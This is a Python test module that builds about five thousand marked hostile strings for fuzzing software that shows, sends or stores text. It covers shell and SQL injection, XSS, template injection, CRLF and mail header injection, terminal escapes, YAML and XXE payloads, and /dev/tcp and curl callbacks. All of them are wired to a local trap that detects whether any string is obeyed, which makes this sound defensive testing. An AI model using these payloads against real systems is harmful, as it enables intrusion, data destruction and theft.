"""Five thousand strings that nobody means well with, for whatever shows, sends or stores text.

`strings(trap)` is the same list every time, without repeats. Every one of them carries a mark
of its own, so that it is seen where it has come to; and most of them try something that leaves a
trace in the trap: a file that is made, a connection to a port, a row that goes, a script that
says so in a browser.
"""

# ruff: noqa: E501  # a string is a string, however long

from __future__ import annotations

import random
import re
from dataclasses import dataclass
from functools import cache
from itertools import product

from hostile_values import VALUES, WITNESS

AT_LEAST = 5_000
MARK = re.compile(r"zq\d{5}x")
"""What every string has once: `zq`, its number, `x`."""

_RUN, _JS, _URL, _MARK = "@run@", "@js@", "@url@", "@mark@"


@dataclass(frozen=True, slots=True, kw_only=True)
class Trap:
    """Where it is seen that one of them was obeyed."""

    folder: str  # no file may ever be made in it
    port: int  # of this machine: nobody may ever connect to it

    def set(self, shape: str, mark: str) -> str:
        """Return the shape with everything in it leading here."""
        made = f"{self.folder}/{mark}"
        address = f"http://127.0.0.1:{self.port}/{mark}"
        filled = shape.replace(_RUN, f"touch {made}").replace(WITNESS, made)
        return filled.replace(_JS, "window.__pwned=1").replace(_URL, address).replace(_MARK, mark)


_RUNS = (_RUN, f"curl {_URL}", f"(echo >/dev/tcp/127.0.0.1/{_MARK})", "sqlite3 kept.db 'DELETE'")
_SHELL = (
    "$({})", "`{}`", ";{};", "|{}", "&&{}", "\n{}\n", "\r\n{}\r\n", "<({})", "a[$({})]",
    "${{x:-$({})}}", "';{};'", '";{};"', "$'\\x24({})'", "() {{ :;}}; {}", "#\n{}", "!!;{}",
    "-exec {} ;", "--checkpoint-action=exec={}", "-oProxyCommand={}", "--use-compress-program={}",
    "system('{}')", "BEGIN{{system(\"{}\")}}", "s/a/b/e;{}", "w {}", "${{IFS}}{}", "\\!{}",
    "\\copy a from program '{}'", "%0a{}", "{{{},}}", "[[ x -eq a[$({})] ]]", "@{}", "=cmd|'{}'!A1",
)  # fmt: skip
_SQL = (
    "'; DELETE FROM kept; --", '"; DELETE FROM kept; --', "\\'; DELETE FROM kept; #",
    "1; DROP TABLE kept", "') ; DELETE FROM kept --", "$$; DELETE FROM kept; $$",
    "' UNION SELECT load_extension('@url@') --", "'; COPY kept TO PROGRAM '@run@'; --",
    "' INTO OUTFILE '@url@' --", "'; ATTACH DATABASE '@url@' AS x; --", "/*! DELETE FROM kept */",
    "U&'\\0027; DELETE FROM kept'", "E'\\x27; DELETE FROM kept'", "`; DELETE FROM kept; `",
    "'; EXEC xp_cmdshell '@run@'; --", "' || (SELECT pg_sleep(9)) || '", "]; DELETE FROM kept; --",
    "'; SET TRANSACTION READ WRITE; DELETE FROM kept; --", "'; COMMIT; DELETE FROM kept; --",
    "' OR lo_import('/etc/passwd') --", "'; FLUSHALL; '", "\r\nFLUSHALL\r\n",
    "*1\r\n$8\r\nFLUSHALL\r\n", 'EVAL "return redis.call(\'FLUSHALL\')" 0',
)  # fmt: skip
_PROMQL = (
    '"} or up{a="',
    '"} or on() vector(1) #',
    '",__name__=~".+',
    '\\"} or vector(1) #',
    "'}[5m])",
    '"}) or absent(up{x="',
    "`} or vector(1)",
    '"} offset 1y or up{a="',
    ".*|.+",
    "(?i)(a+)+$",
)
_HTTP = (
    "\r\nX-Evil: @mark@", "\r\n\r\nGET /@mark@ HTTP/1.1\r\nHost: x\r\n\r\n", "\nSet-Cookie: a=@mark@",
    "\rLocation: @url@", "%0d%0aX-Evil:%201", "\u560d\u560aX-Evil: 1", "../../../etc/passwd",
    "..%2f..%2fetc", "%2e%2e/%2e%2e/", "@127.0.0.1/", "//evil.test/@mark@", "/\\evil.test",
    "?next=@url@", "#@mark@", "http://127.0.0.1@evil.test/", "@url@", "\\\\evil.test\\share",
    "file:///etc/passwd", "gopher://127.0.0.1/_@mark@", "HTTP/1.1 200 OK\r\n\r\n<script>@js@</script>",
    "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "javascript:@js@", "data:text/html,<script>@js@</script>",
)  # fmt: skip
_BREAKS = (
    "", '">', "'>", "</pre>", "</code></pre>", "</textarea>", "</title>", "</script>", "-->",
    "]]>", "</template>", "</select></option>", '" ', "' ", "</style>", "</hx-partial>", "&lt;",
)  # fmt: skip
_MARKUP = (
    "<script>@js@</script>", "<script src=@url@></script>", "<ScRiPt>@js@</sCrIpT>",
    "<script\x0c>@js@</script>", "<<script>@js@//<</script>", "<img src=x onerror=@js@>",
    "<img src=@url@>", "<img/src/onerror=@js@>", "<svg onload=@js@>", "<svg/onload=@js@>",
    "<svg><script>@js@</script></svg>", "<svg><animate onbegin=@js@ attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:@js@><text y=9>a</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=@js@>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>@js@</script>'></iframe></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:@js@>a</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=@js@&gt;\">",
    "<iframe src=javascript:@js@>", "<iframe srcdoc='&lt;script&gt;@js@&lt;/script&gt;'>",
    "<object data=@url@>", "<embed src=@url@>", "<link rel=stylesheet href=@url@>",
    "<link rel=prefetch href=@url@>", "<meta http-equiv=refresh content='0;url=@url@'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<base href=@url@>", "<form action=@url@><button>Approve</button></form>",
    "<button formaction=javascript:@js@>Approve</button>", "<input autofocus onfocus=@js@>",
    "<details open ontoggle=@js@>", "<video><source onerror=@js@></video>", "<audio src=@url@>",
    "<body onload=@js@>", "<marquee onstart=@js@>", "<isindex type=image src=1 onerror=@js@>",
    "<a href=javascript:@js@>See</a>", "<a href='java\tscript:@js@'>See</a>",
    "<a href=\"&#106;avascript:@js@\">See</a>", "<a href=@url@>See</a>", "<style>@import '@url@'</style>",
    "<style>*{background:url(@url@)}</style>", "<p style=\"background:url(@url@)\">",
    "<div style=\"width:expression(@js@)\">", "<table background=@url@>", "<template><script>@js@</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=@js@>\">", "<xmp><script>@js@</script></xmp>",
    "<plaintext>", "<!--><script>@js@</script>", "<!--", "<![CDATA[<script>@js@</script>]]>",
    "<?xml version=1?><script>@js@</script>", "&lt;script&gt;@js@&lt;/script&gt;",
    "&#60;script&#62;@js@&#60;/script&#62;", "&#x3c;img src=x onerror=@js@&#x3e;", "\uff1cscript\uff1e@js@",
    "+ADw-script+AD4-@js@+ADw-/script+AD4-", "\u003cscript\u003e@js@", "%3Cscript%3E@js@%3C/script%3E",
    "<div hx-get=@url@ hx-trigger=load>", "<div hx-on:load='@js@'>", "<div hx-on::after-request=@js@ hx-get=/health hx-trigger=load>",
    "<div data-hx-get=/stop hx-trigger=load>", "<div hx-post=/stop hx-trigger=load hx-vals='js:{a:@js@}'>",
    "<hx-partial hx-target=\"#main\">gone</hx-partial>", "<div hx-sse:connect=@url@>", "<div sse-connect=@url@ sse-swap=a>",
    "<div id=waiting></div>", "<template hx type=partial hx-target=\"#head\">gone</template>",
    "<portal src=@url@>", "<dialog open onclose=@js@>", "<slot onslotchange=@js@>", "<a ping=@url@ href=/>x</a>",
    "<script nonce=x src=/v1/openapi.json></script>", "<script src=/static/../v1/runs></script>",
    "<script src='data:text/javascript,@js@'></script>", "<link rel=manifest href=@url@>",
    "<img srcset=@url@>", "<picture><source srcset=@url@><img></picture>", "<input type=image src=@url@>",
)  # fmt: skip
_ATTRIBUTES = (
    'x" onmouseover="@js@', "x' onmouseover='@js@", "x onmouseover=@js@ ", 'x"onfocus=@js@ autofocus="',
    'é" onfocus="@js@" autofocus x="', "é onfocus=@js@ autofocus ", "`onmouseover=@js@`", 'x"/onload=@js@//',
    'x" style="background:url(@url@)', 'x" formaction="javascript:@js@', 'x" hx-get="@url@" hx-trigger="load',
    'x" hx-on:load="@js@', 'x" id="approve', 'x" name="fingerprint', 'x" data-until="', "x&quot; onload=@js@",
    "x&#34; onload=@js@", "x\" srcdoc=\"<script>@js@</script>", "x\n\" autofocus onfocus=@js@ \"",
)  # fmt: skip
_CODE = (
    "';@js@;'", '";@js@;"', "`;${@js@};`", "</script><script>@js@</script>", "\\';@js@//", "*/@js@/*",
    "\u2028@js@", "\u2029@js@", "});@js@;({", "${@js@}", "{{constructor.constructor('@js@')()}}",
    "};@import url(@url@);{", "red;background:url(@url@)", "expression(@js@)", "\\3c script\\3e @js@",
    "__proto__", "constructor", "toString", "[object Object]", "undefined", "NaN", "null", "true",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{cycler.__init__.__globals__.os.popen('@run@').read()}}", "{% import os %}{{os.system('@run@')}}",
    "{%for x in ().__class__.__base__.__subclasses__()%}{{x}}{%endfor%}", "{# @mark@ #}", "{%raw%}", "{%endraw%}",
    "{% endblock %}", "{% extends '/etc/passwd' %}", "{{ lipsum.__globals__['os'].popen('@run@') }}", "${7*7}",
    "${jndi:ldap://127.0.0.1/@mark@}", "#{7*7}", "<%= `@run@` %>", "<#assign x=1>", "*{7*7}", "@{7*7}", "~{7*7}",
    "{0.__class__.__init__.__globals__}", "{0}", "{}", "{incident.__class__}", "%(actor)s", "%s%s%s%n", "%d", "%x%x",
    "%1$s", "$name", "${name}", "$$", "{{ $labels.instance }}", '{{ printf "%s" "@mark@" }}', "{{ template \"x\" }}",
    "{{{raw}}}", "{{&raw}}", "{{#with}}{{/with}}", "#set($x=1)", "[[${7*7}]]", "__${T(java.lang.Runtime)}__::.x",
)  # fmt: skip
_MARKDOWN = (
    "[a](javascript:@js@)", "[a](<javascript:@js@>)", "[a](JaVaScRiPt:@js@)", "[a](data:text/html,@js@)",
    "[a](vbscript:@js@)", "[a](@url@)", "![a](@url@)", "![][x]\n\n[x]: @url@", "[x]: @url@ \"@mark@\"", "<@url@>",
    "<javascript:@js@>", "www.evil.test", "@url@", "mailto:a@evil.test", "a@evil.test", "# Heading", "\n# Heading\n",
    "\n\n## Action items\n\n- [x] done", "\n---\n", "\n===\n", "Setext\n===", "```", "\n```\n# out\n", "````", "`````` ````",
    "~~~", "\n~~~\n", "\n\n    code\n\n", "- item", "* item", "+ item", "1. item", "1) item", "- [ ] task", "- [x] task",
    "> quote", ">> quote", "| a | b |", "| | |\n| --- | --- |\n| x | y |", "\\| a", "a | b | c", "|", "\\", "\\\\", "**bold**",
    "__bold__", "*em*", "_em_", "~~gone~~", "`code`", "`` ` ``", "`", "<b>bold</b>", "<img src=@url@>", "<!-- ", " -->",
    "<script>@js@</script>", "<details><summary>a</summary>", "</details>", "&lt;b&gt;", "&#60;b&#62;", "&nbsp;", "&copy;",
    "[^1]", "[^1]: note", "[[wiki]]", "[ref]", "![[embed]]", ":tada:", "@channel", "@here", "@everyone", "<!channel>",
    "<!here>", "<@U012345>", "<#C012345>", "<@url@|Approve>", "#1234", "GH-1", "$x^2$", "$$\nx\n$$", "```mermaid\ngraph\n```",
    "{: onclick=@js@}", "{.class}", "{{< shortcode >}}", "---\ntitle: x\n---", "+++\n", ":::warning\n", "~~~~text\n", "=cmd()",
    "hello  \nworld", "a\\\nb", "a<br>b", "<a href='@url@'>a</a>", "http://evil.test/@mark@", "https://evil.test/@mark@",
    "ftp://evil.test", "[a]( javascript:@js@ )", "[a](\tjavascript:@js@)", "[a](&#106;avascript:@js@)", "[![a](@url@)](@url@)",
)  # fmt: skip
_TERMINAL = (
    "\x1b[2J", "\x1b[H", "\x1b[31mred\x1b[0m", "\x1b[8mhidden\x1b[28m", "\x1b[1A\x1b[2K", "\x1b[6n", "\x1b[c", "\x1b[21t",
    "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]8;;@url@\x1b\\Approve\x1b]8;;\x1b\\", "\x1b]52;c;dG91Y2ggeA==\x07",
    "\x1b]1337;File=name=eA==:eA==\x07", "\x1b]50;xterm\x07", "\x1b]4;1;?\x07", "\x1b]777;notify;a;b\x07", "\x1bP$q q\x1b\\",
    "\x1bP+q544e\x1b\\", "\x1b_Ga=T;AAAA\x1b\\", "\x1b^private\x1b\\", "\x1bXstring\x1b\\", "\x1bc", "\x1b(0", "\x1b#8",
    "\x1b[?1049h", "\x1b[?25l", "\x1b[?1000h", "\x1b[?2004h", "\x1b[200~@run@\n\x1b[201~", "\x1b[5i", "\x1b[4i", "\x9b2J",
    "\x9d0;title\x9c", "\x90$q\x9c", "\x84\x85\x8d", "safe\rrm -rf", "safe\x08\x08\x08\x08evil", "a\x7fb", "\x07", "\x0e\x0f",
    "\x0b\x0c", "\x05", "\x1b", "\x1b[", "\x1b]", "\x1bP", "\x1b[99999999999m", "\x1b[" + ";" * 60 + "m", "\x1b]8;;javascript:@js@\x07x",
    "\x1b[3;J", "\x1b[38;5;0;48;5;0m", "\x1b%G", "\x1b%@", "\x1bZ", "\x1b[>c", "\x1b[=c", "\x1bN\x1bO", "\x1b[!p", "\x1b[?1;2c",
)  # fmt: skip
_UNSEEN = (
    *(chr(each) for each in (*range(0x20), *range(0x7F, 0xA1))),
    *"\u00ad\u034f\u061c\u115f\u1160\u17b4\u180b\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a",
    *"\u202b\u202c\u202d\u202e\u202f\u2060\u2061\u2062\u2063\u2064\u2066\u2067\u2068\u2069\u206a\u206f",
    *"\u2800\u3000\u3164\ufe00\ufe0f\ufeff\uffa0\ufff9\ufffa\ufffb\ufffc\ufffd\uffff\ufdd0\ue000\u0301\u0489",
    *"\U000e0001\U000e0041\U000e007f\U000f0000\U0010ffff\U0001d173\U0001f468\ud800\udc00\udfff",
)
_HIDDEN = ("rm{0}-rf", "{0}approve", "approve{0}", "{0}{0}{0}", "a{0}\n{0}b", "user{0}nimda")
_LOOKS = (
    "\u0430dmin", "p\u0430yments", "r\u043e\u043et", "\uff41\uff44\uff4d\uff49\uff4e", "\u2010rf", "\u2212rf", "\uff0drf", "\u2024\u2024",
    "\uff0e\uff0e", "\u2215etc\u2215passwd", "\u037e rm", "\uff1b rm", "\uff04(id)", "\u201cquoted\u201d", "\uff07; DROP", "\u02bc OR 1=1",
    "\u2216", "\uff5c", "\u0663", "\u2168", "\u00b2", "\ufb01le", "\u0130stanbul", "\u1e9e", "\u0149", "Z\u0351\u036b\u0343", "\U0001d4ea", "\u2460",
    "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627", "\u0e4e\u0e4e\u0e4e", "\ud83d", "\u4e00" * 40, "\U0001f1e9\U0001f1ea", "e\u0301" * 20,
)  # fmt: skip
_MAIL = (
    "x\r\nBcc: @mark@@evil.test", "x\nBcc: a@evil.test", "x\rTo: a@evil.test", "x\r\n\r\n<html>@mark@</html>", "x\r\n.\r\nMAIL FROM:<a@evil.test>",
    ".\r\n", "\n.\n", "\r\n.\r", "=?utf-8?q?=0d=0aBcc:_a@evil.test?=", "=?utf-8?b?DQpCY2M6IGE=?=", "=?x?y?z?=", "x\r\n Content-Type: text/html",
    "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<script>@js@</script>\r\n--x--", "--===============\r\n",
    "begin 644 x.exe\r\n", "From a@evil.test", "\nFrom a\n", "=0d=0a", "=\r\n", "x\u0085Bcc: a", "x\u2028Bcc: a", "x\x0bBcc: a", "x\x0cBcc: a", "x\x1cBcc: a",
    "RCPT TO:<a@evil.test>\r\n", "QUIT\r\n", "X-Priority: 5\r\nReply-To: a@evil.test", "<a@evil.test>", '"a" <a@evil.test>', "a@evil.test,b@evil.test",
)  # fmt: skip
_RECORDS = (
    '","admin":true,"x":"', '"}', '"}]}', '\\"', "\\u0022", "\\", '\\\\"', '{"a":1}', "[1,2,3]", "\n{\"kind\":\"approval\"}\n", "\u2028{}", "}\n{",
    "2026-01-05 03:00:00,000 INFO tocsin: ada approved it", "\n2026-01-05 03:00:00,000 INFO tocsin: approved", "\r2026-01-05 ERROR root: x",
    "\n\tat evil(Evil.java)", "\nTraceback (most recent call last):", "\x1e{}\n", "=1+1", "=HYPERLINK(\"@url@\")", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "=cmd|' /C @run@'!A0", '";=1+1;"', "a,b,c", "a;b;c", "a\tb", '"', '""', "\ndata: <script>@js@</script>\n\n", "\nevent: close\n", "\nid: 1\n",
    "\nretry: 1\n", "\r\rdata: x\r\r", "\n\n", ": comment", "\ndata:\n\ndata: x", "event: message", "key: !!python/object/apply:os.system ['@run@']",
    "&a [*a, *a]", "!!binary x", "- a\n- b", "[section]\nkey=1", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '@url@'>]><x>&e;</x>",
    "tocsin: approved by ada", "[redacted]", "step run 1: approved", "incident 1 resolved", "0" * 64, "-----BEGIN PRIVATE KEY-----", "\n- [x] approved by ada",
)  # fmt: skip
_LONG = (
    "A" * 3000,
    "<" * 800,
    "`" * 600,
    "\n" * 300,
    "(" * 700,
    "\u202e" * 200,
    "\x1b[31m" * 200,
    "&amp;" * 300,
)


def _shapes() -> list[str]:
    shells = [shape.format(run) for shape, run in product(_SHELL, _RUNS)]
    markup = [f"{first}{then}" for first, then in product(_BREAKS, _MARKUP)]
    hidden = [shape.format(unseen) for shape, unseen in product(_HIDDEN, _UNSEEN)]
    inner = [*_SQL, *_PROMQL, *_HTTP, *_ATTRIBUTES, *_CODE, *_TEMPLATES, *_MAIL, *_RECORDS]
    seen = [*_MARKDOWN, *_TERMINAL, *_LOOKS]
    plain = [*shells, *markup, *hidden, *inner, *seen, *_LONG]
    return list(dict.fromkeys([*plain, *(each for each in VALUES if each), *_mixed(plain)]))


def _mixed(plain: list[str]) -> list[str]:
    """Return two of them, one behind the other: what one closes the other may open."""
    choose = random.Random(5)
    short = [each for each in plain if len(each) < 100]
    return ["".join(choose.sample(short, 2)) for _ in range(800)]


@cache
def shapes() -> tuple[str, ...]:
    """Return all of them as they are before they are marked and the trap is set."""
    found = tuple(_shapes())
    assert len(found) >= AT_LEAST, len(found)
    return found


def strings(trap: Trap) -> list[str]:
    """Return all of them. The mark stands before or behind: each may be what disarms one."""
    choose = random.Random(6)
    return [_marked(trap, shape, number, choose) for number, shape in enumerate(shapes())]


def _marked(trap: Trap, shape: str, number: int, choose: random.Random) -> str:
    mark = f"zq{number:05}x"
    filled = trap.set(shape, f"t{number:05}")
    return f"{mark}{filled}" if choose.random() < 0.25 else f"{filled}{mark}"


def mark_of(text: str) -> str:
    """Return the one mark in a string."""
    (found,) = MARK.findall(text)
    return str(found)
